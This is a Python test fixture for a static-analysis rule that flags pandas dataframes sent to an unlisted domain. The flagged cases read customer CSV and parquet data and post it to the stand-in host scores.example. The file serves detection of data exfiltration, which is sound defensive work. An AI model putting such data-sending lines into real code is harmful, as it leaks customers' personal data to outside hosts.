"""Tables that go through functions and objects."""
import pandas as pd
import requests


def export(path):
    return pd.read_csv(path).to_json(orient="records")


def send(text):
    # ruleid: dataframe-posted-to-unlisted-domain
    return requests.post("https://scores.example/in", data=text, timeout=9)


send(export("customers.csv"))


class Store:
    def __init__(self, path):
        self.rows = pd.read_parquet(path).to_dict("records")

    def push(self):
        # ruleid: dataframe-posted-to-unlisted-domain
        requests.put("https://scores.example/rows", json=self.rows)


def count(path):
    return len(pd.read_csv(path))


def report():
    # ok: dataframe-posted-to-unlisted-domain
    requests.post("https://scores.example/count", json={"n": count("customers.csv")})
